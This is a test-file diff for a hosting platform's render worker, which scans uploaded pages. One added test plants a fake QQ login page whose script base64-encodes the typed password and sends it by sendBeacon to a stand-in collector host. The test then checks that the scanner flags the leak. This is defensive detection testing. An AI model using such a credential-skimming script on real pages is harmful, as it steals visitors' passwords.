@@ -40,7 +40,7 @@ async function reportOf(t: TestApp, deploymentId: number) {
   const d = await deployments.byId(t.ctx.db, deploymentId);
   return JSON.parse(d!.content_check!) as {
     level: string;
-    findings: Array<{ rule?: string; severity: string; category: string; message: string }>;
+    findings: Array<{ rule?: string; severity: string; category: string; message: string; excerpt?: string }>;
     runtime?: { external_requests: Array<{ url: string }>; blank: boolean };
   };
 }
@@ -157,6 +157,62 @@ describe('render worker', () => {
     expect(report.level).toBe('high');
   });
 
+  it('reports a password the visitor typed that the page sends to another host, naming the field and host', async () => {
+    const site = await upload(
+      t,
+      owner.token,
+      html(
+        '<form><input name="qq" placeholder="QQ号"><input type="password" name="pw" placeholder="QQ密码"><button>登录</button></form>',
+        `<script>addEventListener('DOMContentLoaded', () => document.querySelector('form').onsubmit = (e) => {
+          e.preventDefault();
+          navigator.sendBeacon('https://collect.canary-test.example/b', btoa(document.querySelector('[name=pw]').value));
+        });</script>`,
+      ),
+    );
+    await t.ctx.services.render.idle();
+    const report = await reportOf(t, site.deploymentId);
+    const leak = report.findings.find((f) => f.rule === 'runtime.canary-leak');
+    expect(leak).toMatchObject({ severity: 'high', kind: 'runtime_canary' });
+    expect(leak!.message).toBe(
+      '页面把访客在“pw”中输入的密码发往其他主机 collect.canary-test.example（sendBeacon 信标，base64 编码）',
+    );
+    expect(report.level).toBe('high');
+    // The review page sees it (the contract's schema accepts the new kind and record).
+    const detail = await t.request({ url: `/api/admin/projects/${site.id}`, token: await t.adminToken() });
+    expect(detail.statusCode).toBe(200);
+    expect(detail.json().data.content_check.runtime.canary_leaks).toEqual([
+      expect.objectContaining({
+        kind: 'password',
+        field: 'pw',
+        host: 'collect.canary-test.example',
+        via: 'ping',
+      }),
+    ]);
+    expect(detail.json().data.renders).toEqual([
+      expect.objectContaining({ state: 'done', error: null, newest: true }),
+    ]);
+  });
+
+  it('runs the site as it goes live: storage and cookies raise no script error; an error reads in Chinese', async () => {
+    const site = await upload(
+      t,
+      owner.token,
+      html(
+        '<h1>存储</h1>',
+        "<script>localStorage.setItem('k', '1'); document.cookie = 'a=1'; sessionStorage.k = 2; missingFunction();</script>",
+      ),
+    );
+    await t.ctx.services.render.idle();
+    const report = await reportOf(t, site.deploymentId);
+    const errors = report.findings.filter((f) => f.rule === 'runtime.console-error');
+    expect(errors).toEqual([
+      expect.objectContaining({
+        message: '页面运行时出错（引用了未定义的名称）：“missingFunction”未定义',
+        excerpt: expect.stringContaining('missingFunction is not defined'),
+      }),
+    ]);
+  });
+
   it('reports a page that leaves for another host on load', async () => {
     const site = await upload(
       t,
@@ -184,12 +240,21 @@ describe('render worker', () => {
     expect(report.findings.find((f) => f.rule === 'runtime.blank')?.category).toBe('usability');
   });
 
-  it('fails a page that hangs after two retries, with its reason', async () => {
+  it('fails a page that hangs after two retries, with its reason, as a finding and on the review page', async () => {
     const site = await upload(t, owner.token, html('<p>卡住</p><script>for (;;) {}</script>'));
     await t.ctx.services.render.idle();
     const job = await t.ctx.services.render.job(site.deploymentId);
     expect(job).toMatchObject({ status: 'failed', attempts: 3 });
     expect(job!.error).toContain('超时');
+    // A failed render is a finding, not silence.
+    const report = await reportOf(t, site.deploymentId);
+    const failed = report.findings.find((f) => f.rule === 'runtime.render-failed');
+    expect(failed?.severity).toBe('medium');
+    expect(failed?.message).toContain('超时');
+    const detail = await t.request({ url: `/api/admin/projects/${site.id}`, token: await t.adminToken() });
+    expect(detail.json().data.renders).toEqual([
+      expect.objectContaining({ newest: true, live: false, state: 'failed', attempts: 3, error: job!.error }),
+    ]);
     // The next site still renders (the hung browser was replaced).
     const next = await upload(t, owner.token, html('<h1>之后</h1>'));
     await t.ctx.services.render.idle();
